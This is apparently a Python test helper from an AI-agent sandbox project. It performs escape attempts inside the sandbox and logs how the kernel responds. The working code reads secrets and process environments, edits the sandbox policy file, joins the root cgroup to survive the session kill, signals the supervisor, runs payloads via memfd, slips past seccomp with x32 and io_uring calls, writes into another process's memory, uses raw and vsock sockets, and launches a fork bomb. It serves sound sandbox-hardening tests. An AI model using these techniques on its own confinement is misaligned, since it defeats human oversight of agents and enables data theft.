"""Escape attempts, run INSIDE the sandbox by tests/adversarial.

    /usr/bin/python3 -I attempts.py STEP [ARG...]

The tests copy this file into the agent's workspace (the only place the
sandbox may read it from). Each step tries one forbidden thing the way a
hostile agent would, and prints what the kernel answered, one line per
operation, flushed at once (a kill may follow any moment):

    ATTEMPT {"step": "...", "op": "...", "result": "ok" | "EACCES" | ..., ...}

Only the standard library and ctypes: a compiled helper could not run here
(nothing outside /usr/bin, /bin and /usr/lib may be executed).
"""
import ctypes
import errno
import json
import mmap
import os
import signal
import socket
import struct
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
STEP = sys.argv[1] if len(sys.argv) > 1 else ""
AT_FDCWD = -100


def report(op, result, **extra):
    print("ATTEMPT " + json.dumps(dict(step=STEP, op=op, result=result, **extra)), flush=True)


def attempt(op, fn, **extra):
    """Run fn; report 'ok' (with its value) or the errno name; return the value or None."""
    try:
        value = fn()
    except OSError as e:
        report(op, errno.errorcode.get(e.errno, str(e.errno)), **extra)
        return None
    report(op, "ok", value=value if isinstance(value, (int, str, list, type(None))) else repr(value),
           **extra)
    return value


def syscall(nr, *args):
    ret = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(a) for a in args])
    if ret < 0:
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e))
    return ret


def read_bytes(path, limit=4096):
    with open(path, "rb") as f:
        return f.read(limit)


def write_bytes(path, data, mode="wb"):
    with open(path, mode) as f:
        f.write(data)
    return len(data)


# ---------------------------------------------------------------- files

def copy(src, dst):
    """Read src and write what came back to dst (an exfiltration into the workspace)."""
    data = attempt("read", lambda: read_bytes(src).decode(errors="replace"), path=src)
    write_bytes(dst, (data or "").encode())


def policy_edit(policy, scratch):
    write_bytes(scratch, b"apiVersion: agentwatch/v1\nkind: AgentPolicy\n# all allowed\n")
    attempt("append", lambda: write_bytes(policy, b"\n# agent was here\n", "ab"), path=policy)
    attempt("truncate", lambda: os.truncate(policy, 0), path=policy)
    attempt("rename-over", lambda: os.rename(scratch, policy), path=policy)
    attempt("unlink", lambda: os.unlink(policy), path=policy)


def cgroup_escape(survivor):
    """Write our pid into the root cgroup of every hierarchy we can name;
    then wait: a process that left the run's cgroup outlives the kill of
    that cgroup, and leaves ``survivor`` behind."""
    targets = []
    with open("/proc/self/mountinfo") as f:
        for line in f:
            parts = line.split()
            sep = parts.index("-")
            fstype, mnt = parts[sep + 1], parts[4]
            if fstype == "cgroup2" or (fstype == "cgroup" and "pids" in parts[sep + 3].split(",")):
                targets.append(os.path.join(mnt, "cgroup.procs"))
    for t in targets:
        attempt("join root cgroup", lambda: write_bytes(t, str(os.getpid()).encode()), path=t)
    report("cgroup after", "ok", value=read_bytes("/proc/self/cgroup").decode())
    time.sleep(15)
    write_bytes(survivor, read_bytes("/proc/self/cgroup"))


def proc_root_write(path):
    detour = "/proc/self/root" + path
    attempt("write via /proc/self/root", lambda: write_bytes(detour, b"planted\n"), path=detour)


def chmod_outside(path):
    attempt("chmod 0666", lambda: os.chmod(path, 0o666), path=path)
    attempt("utime", lambda: os.utime(path, (0, 0)), path=path)


def send_signal(pid):
    attempt("kill -TERM", lambda: os.kill(pid, signal.SIGTERM), pid=pid)


def signal_group():
    """kill(0, SIGTERM): every process of the caller's group, which is
    agentwatch's (the agent starts in it). The kernel refuses the part that
    would reach agentwatch; this process and its shell ignore SIGTERM."""
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    attempt("kill -TERM 0", lambda: os.kill(0, signal.SIGTERM))
    time.sleep(1)     # the judge reads the caller's group while it lives (README Known limits)


def inherited_fd(fd, ppid, dst):
    report("own fds", "ok", value=sorted(os.listdir("/proc/self/fd")))
    data = attempt("read inherited fd", lambda: os.read(fd, 4096).decode(errors="replace"), fd=fd)
    via = f"/proc/{ppid}/fd/{fd}"
    data2 = attempt("read via launcher's /proc fd", lambda: read_bytes(via).decode(errors="replace"),
                    path=via)
    write_bytes(dst, ((data or "") + (data2 or "")).encode())


def environ(pid, dst):
    path = f"/proc/{pid}/environ"
    data = attempt("read environ", lambda: read_bytes(path, 1 << 16).decode(errors="replace"), path=path)
    write_bytes(dst, (data or "").encode())


# ---------------------------------------------------------------- code

def memfd_exec(payload, marker):
    data = read_bytes(payload, 16 << 20)
    fd = attempt("memfd_create", lambda: os.memfd_create("payload", 0))
    if fd is None:
        return
    os.write(fd, data)
    attempt("fexecve", lambda: os.execve(fd, ["payload", marker], {}))


def map_exec(path):
    """What the dynamic loader and dlopen do with a library: map it executable."""
    with open(path, "rb") as f:
        attempt("mmap PROT_EXEC", lambda: mmap.mmap(f.fileno(), 4096, mmap.MAP_PRIVATE,
                                                    mmap.PROT_READ | mmap.PROT_EXEC) and "mapped",
                path=path)


# ---------------------------------------------------------------- syscalls

def x32_open(secret, dst):
    """openat(2) with the x32 ABI bit set: a filter that only knows x86_64
    numbers would let it through (here there is no x32 ABI, and seccomp kills)."""
    path = ctypes.create_string_buffer(secret.encode())
    fd = attempt("x32 openat", lambda: syscall(0x40000000 | 257, AT_FDCWD, ctypes.addressof(path), 0))
    if fd is not None:
        write_bytes(dst, os.read(fd, 4096))


def bpf_map():
    attr = ctypes.create_string_buffer(72)
    struct.pack_into("=IIII", attr, 0, 2, 4, 4, 1)        # BPF_MAP_TYPE_ARRAY, 4-byte key/value
    attempt("bpf(BPF_MAP_CREATE)", lambda: syscall(321, 0, ctypes.addressof(attr), 72))


class IoUring:
    """Just enough io_uring to open/read a file and connect/send on a socket
    without a single open, read, connect or send syscall of our own."""
    OPENAT, READ, CONNECT, SEND = 18, 22, 16, 26

    def __init__(self, entries=8):
        self.params = ctypes.create_string_buffer(120)
        self.fd = syscall(425, entries, ctypes.addressof(self.params))   # io_uring_setup
        p = self.params.raw
        sq_entries, cq_entries = struct.unpack_from("=II", p, 0)
        sq = struct.unpack_from("=IIIIIII", p, 40)   # head tail mask entries flags dropped array
        cq = struct.unpack_from("=IIIIII", p, 80)    # head tail mask entries overflow cqes
        self.sq_off, self.cq_off = sq, cq
        self.sq_entries = sq_entries
        self.sq = mmap.mmap(self.fd, sq[6] + sq_entries * 4, offset=0)
        self.cq = mmap.mmap(self.fd, cq[5] + cq_entries * 16, offset=0x8000000)
        self.sqes = mmap.mmap(self.fd, sq_entries * 64, offset=0x10000000)
        self.keep = []

    def run(self, opcode, fd=0, addr=0, length=0, off=0, op_flags=0):
        sq, cq = self.sq_off, self.cq_off
        tail = struct.unpack_from("=I", self.sq, sq[1])[0]
        idx = tail & struct.unpack_from("=I", self.sq, sq[2])[0]
        sqe = struct.pack("=BBHiQQIIQHHiQQ", opcode, 0, 0, fd, off, addr, length, op_flags, 1,
                          0, 0, 0, 0, 0)
        self.sqes[idx * 64:(idx + 1) * 64] = sqe
        struct.pack_into("=I", self.sq, sq[6] + idx * 4, idx)
        struct.pack_into("=I", self.sq, sq[1], tail + 1)
        syscall(426, self.fd, 1, 1, 1, 0, 0)                  # io_uring_enter(GETEVENTS)
        head = struct.unpack_from("=I", self.cq, cq[0])[0]
        mask = struct.unpack_from("=I", self.cq, cq[2])[0]
        _, res, _ = struct.unpack_from("=QiI", self.cq, cq[5] + (head & mask) * 16)
        struct.pack_into("=I", self.cq, cq[0], head + 1)
        if res < 0:
            raise OSError(-res, os.strerror(-res))
        return res


def io_uring(secret, dst, port):
    ring = attempt("io_uring_setup", IoUring)
    if ring is None:
        return
    path = ctypes.create_string_buffer(secret.encode())
    fd = attempt("IORING_OP_OPENAT secret", lambda: ring.run(IoUring.OPENAT, AT_FDCWD,
                                                            ctypes.addressof(path), 0, 0, 0))
    if fd is not None:
        buf = ctypes.create_string_buffer(4096)
        n = attempt("IORING_OP_READ", lambda: ring.run(IoUring.READ, fd, ctypes.addressof(buf), 4096))
        write_bytes(dst, buf.raw[:n or 0])
    s = socket.socket()
    sa = ctypes.create_string_buffer(struct.pack("=H", socket.AF_INET) + struct.pack("!H", port)
                                     + socket.inet_aton("127.0.0.1") + bytes(8))
    if attempt("IORING_OP_CONNECT", lambda: ring.run(IoUring.CONNECT, s.fileno(), ctypes.addressof(sa),
                                                     0, 16), port=port) is not None:
        msg = ctypes.create_string_buffer(b"LEAK-IO-URING")
        attempt("IORING_OP_SEND", lambda: ring.run(IoUring.SEND, s.fileno(), ctypes.addressof(msg), 13))


def victim(info_path, changed_path, seconds=20):
    """A sibling holding a secret buffer; leaves a marker if anyone changes it."""
    original = b"ORIGINAL-VICTIM-BUFFER"
    buf = ctypes.create_string_buffer(original)
    write_bytes(info_path + ".tmp", f"{os.getpid()} {ctypes.addressof(buf)}".encode())
    os.rename(info_path + ".tmp", info_path)
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if buf.raw[:len(original)] != original:
            write_bytes(changed_path, buf.raw)
            return
        time.sleep(0.02)


def _victim_info(info_path):
    for _ in range(500):
        if os.path.exists(info_path):
            pid, addr = read_bytes(info_path).split()
            return int(pid), int(addr)
        time.sleep(0.01)
    raise SystemExit("victim did not start")


def ptrace_attach(info_path):
    pid, _ = _victim_info(info_path)
    attempt("ptrace(PTRACE_ATTACH)", lambda: syscall(101, 16, pid, 0, 0), pid=pid)


def vm_write(info_path):
    pid, addr = _victim_info(info_path)
    data = ctypes.create_string_buffer(b"OVERWRITTEN-BY-ATTACKER")

    class IoVec(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
    local, remote = IoVec(ctypes.addressof(data), 22), IoVec(addr, 22)
    attempt("process_vm_writev", lambda: syscall(311, pid, ctypes.addressof(local), 1,
                                                 ctypes.addressof(remote), 1, 0), pid=pid)


# ---------------------------------------------------------------- network

def unix_connect(name, abstract, wait):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    target = ("\0" + name) if abstract else name
    if attempt("connect unix", lambda: s.connect(target) or "connected", path=name,
               abstract=abstract) is None:
        return
    time.sleep(wait)
    attempt("send", lambda: s.send(b"LEAK-UNIX"))


def udp(family, addr, port, tag):
    s = socket.socket(family, socket.SOCK_DGRAM)
    attempt("sendto", lambda: s.sendto(b"LEAK-" + tag.encode(), (addr, port)), tag=tag, addr=addr,
            port=port)


def tcp(family, addr, port, tag, payload=None):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(3)
    def go():
        s.connect((addr, port))
        s.sendall(payload or b"LEAK-" + tag.encode())
        s.close()
    attempt("connect", go, tag=tag, addr=addr, port=port)


def network(spec):
    """spec: JSON {tag: [proto, family, addr, port]}, in order."""
    for tag, (proto, fam, addr, port) in json.loads(spec).items():
        family = socket.AF_INET6 if fam == "inet6" else socket.AF_INET
        (udp if proto == "udp" else tcp)(family, addr, port, tag)


def proxy(proxy_port, direct_port):
    """The agent is told to use HTTP_PROXY=127.0.0.1:PROXY; it talks through
    the proxy once (allowed), then goes around it (denied)."""
    tcp(socket.AF_INET, "127.0.0.1", proxy_port, "via-proxy",
        f"GET http://127.0.0.1:{direct_port}/ HTTP/1.1\r\nHost: x\r\n\r\n".encode())
    tcp(socket.AF_INET, "127.0.0.1", direct_port, "bypass-proxy")


def sockets(port):
    """Raw and packet sockets: packets no connect()/sendmsg() hook would see."""
    s = attempt("socket(AF_INET, SOCK_RAW, IPPROTO_UDP)",
                lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP))
    if s is not None:
        udp_hdr = struct.pack("!HHHH", 40000, port, 8 + 8, 0) + b"LEAK-RAW"
        attempt("raw sendto", lambda: s.sendto(udp_hdr, ("127.0.0.1", 0)))
    p = attempt("socket(AF_PACKET, SOCK_RAW)",
                lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003)))
    if p is not None:
        attempt("packet bind lo", lambda: p.bind(("lo", 0)))


def families(port):
    """Socket families no cgroup hook sees (issue #14): vsock to the host
    (bound, as the attack did), a netlink protocol that carries data to user
    space (NETLINK_USERSOCK), the obsolete SOCK_PACKET; and the route
    protocol, which address look-ups need and which stays open."""
    v = attempt("socket(AF_VSOCK)", lambda: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM))
    if v is not None:
        attempt("vsock bind", lambda: v.bind((socket.VMADDR_CID_ANY, port)))
    n = attempt("socket(AF_NETLINK, NETLINK_USERSOCK)",
                lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 2))
    if n is not None:
        attempt("usersock sendto", lambda: n.sendto(b"LEAK-NETLINK", (port, 0)))
    attempt("socket(AF_INET, SOCK_PACKET)", lambda: socket.socket(socket.AF_INET, 10, socket.htons(3)))
    r = attempt("socket(AF_NETLINK, NETLINK_ROUTE)", lambda: socket.socket(socket.AF_NETLINK,
                                                                          socket.SOCK_RAW, 0))
    if r is not None:
        r.bind((0, 0))
        r.send(struct.pack("=IHHIIBBBBI", 24, 22, 0x301, 1, 0, 0, 0, 0, 0, 0))   # RTM_GETADDR dump
        attempt("RTM_GETADDR", lambda: len(r.recv(65536)))


def user_wide_priority(uid):
    """setpriority(PRIO_USER) and ioprio_set(IOPRIO_WHO_USER) reach every
    process of the uid on the host, whatever pid namespace the agent is in."""
    attempt("setpriority(PRIO_USER)", lambda: syscall(141, 2, uid, 19))
    attempt("ioprio_set(IOPRIO_WHO_USER)", lambda: syscall(251, 3, uid, (3 << 13)))   # idle class


# ---------------------------------------------------------------- resources

def fork_bomb(marker):
    n = 0
    while True:
        try:
            pid = os.fork()
        except OSError as e:
            report("fork", errno.errorcode.get(e.errno, str(e.errno)), forks=n)
            write_bytes(marker, str(n).encode())
            time.sleep(60)
            return
        if pid == 0:
            time.sleep(60)
            os._exit(0)
        n += 1


def memory_hog(marker, mb):
    chunks = []
    for i in range(mb // 32):
        chunks.append(bytearray(32 << 20))      # zero-filled: every page touched
        if i % 4 == 0:
            report("allocated", "ok", mb=(i + 1) * 32)
    write_bytes(marker, b"allocated everything\n")


STEPS = {
    "copy": copy, "policy_edit": policy_edit, "cgroup_escape": cgroup_escape,
    "proc_root_write": proc_root_write, "chmod_outside": chmod_outside, "signal": lambda pid: send_signal(int(pid)),
    "signal_group": signal_group,
    "inherited_fd": lambda fd, ppid, dst: inherited_fd(int(fd), int(ppid), dst),
    "environ": lambda pid, dst: environ(int(pid), dst),
    "memfd_exec": memfd_exec, "map_exec": map_exec, "x32_open": x32_open, "bpf": bpf_map,
    "io_uring": lambda secret, dst, port: io_uring(secret, dst, int(port)),
    "victim": lambda info, changed, seconds="20": victim(info, changed, float(seconds)),
    "ptrace": ptrace_attach, "vm_write": vm_write,
    "unix_connect": lambda name, abstract, wait: unix_connect(name, abstract == "1", float(wait)),
    "network": network, "proxy": lambda a, b: proxy(int(a), int(b)),
    "sockets": lambda port: sockets(int(port)),
    "families": lambda port: families(int(port)),
    "user_wide_priority": lambda uid: user_wide_priority(int(uid)),
    "fork_bomb": fork_bomb, "memory_hog": lambda marker, mb: memory_hog(marker, int(mb)),
}

if __name__ == "__main__":
    STEPS[STEP](*sys.argv[2:])
